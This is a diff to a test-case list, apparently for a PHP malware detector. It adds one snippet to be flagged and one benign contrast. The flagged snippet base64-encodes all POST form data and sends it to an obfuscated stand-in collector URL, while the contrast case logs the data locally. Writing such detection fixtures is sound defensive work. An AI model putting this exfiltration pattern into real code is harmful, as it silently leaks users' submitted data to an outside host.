@@ -335,4 +335,16 @@ CASES: list[tuple[str, bytes, bool]] = [
         b"<?php $first = current($_GET);\necho htmlspecialchars($first);",
         False,
     ),
+    (
+        "SPAMGEAR_EVASION_InputDumpToHiddenUrl",
+        b"<?php $d = base64_encode(serialize($_POST));\n"
+        b"@file_get_contents(base64_decode('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL2M=')"
+        b" . '?d=' . $d);",
+        True,
+    ),
+    (
+        "SPAMGEAR_EVASION_InputDumpToHiddenUrl",
+        b"<?php $d = json_encode($_POST);\nfile_put_contents('/var/log/app/form.json', $d);",
+        False,
+    ),
 ]
